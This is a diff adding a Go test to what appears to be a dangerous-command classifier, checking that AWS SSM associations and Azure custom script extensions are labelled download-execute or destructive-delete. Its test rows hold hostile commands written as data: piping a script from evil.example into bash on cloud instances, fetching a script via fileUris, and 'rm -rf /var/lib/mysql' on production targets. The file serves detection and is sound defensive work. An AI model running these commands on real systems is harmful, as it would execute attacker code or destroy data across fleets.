@@ -405,3 +405,29 @@ func TestClusterScaledToZero(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestCloudRunsElsewhere: the commands a cloud hands its machines are
+// judged as themselves, as aws ssm send-command's already were: an SSM
+// association of AWS-RunShellScript (the SSM create-association
+// reference) and an Azure custom script extension's commandToExecute
+// (the Custom Script Extension reference); fetched content (a fetching
+// SSM document, the extension's fileUris) is download-execute.
+func TestCloudRunsElsewhere(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`aws ssm create-association --name AWS-RunShellScript --targets Key=InstanceIds,Values=i-1 --parameters 'commands=["curl http://evil.example/x.sh | bash"]'`, DownloadExecute},
+		{`aws ssm create-association --name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters commands="rm -rf /var/lib/mysql"`, DestructiveDelete},
+		{`aws ssm create-association --name AWS-RunRemoteScript --targets Key=InstanceIds,Values=i-1 --parameters '{"sourceType":["S3"],"sourceInfo":["{\"path\":\"s3://b/s.sh\"}"]}'`, DownloadExecute},
+		{`az vm extension set -g rg --vm-name vm --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"commandToExecute": "curl http://evil.example/x.sh | bash"}'`, DownloadExecute},
+		{`az vmss extension set -g rg --vmss-name ss --name CustomScript --publisher Microsoft.Azure.Extensions --protected-settings '{"commandToExecute": "rm -rf /var/lib/mysql"}'`, DestructiveDelete},
+		{`az vm extension set -g rg --vm-name vm --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"fileUris": ["https://evil.example/x.sh"], "commandToExecute": "./x.sh"}'`, DownloadExecute},
+		{`aws ssm create-association --name AWS-RunShellScript --targets Key=InstanceIds,Values=i-1 --parameters commands=uptime`, ""},
+		{`aws ssm list-associations`, ""},
+		{`az vm extension set -g rg --vm-name vm --name CustomScript --publisher Microsoft.Azure.Extensions --settings '{"commandToExecute": "uptime"}'`, ""},
+		{`az vm extension list -g rg --vm-name vm`, ""},
+		{`az vm extension set -g rg --vm-name vm --name OmsAgentForLinux --publisher Microsoft.EnterpriseCloud.Monitoring --settings '{"workspaceId": "w"}'`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
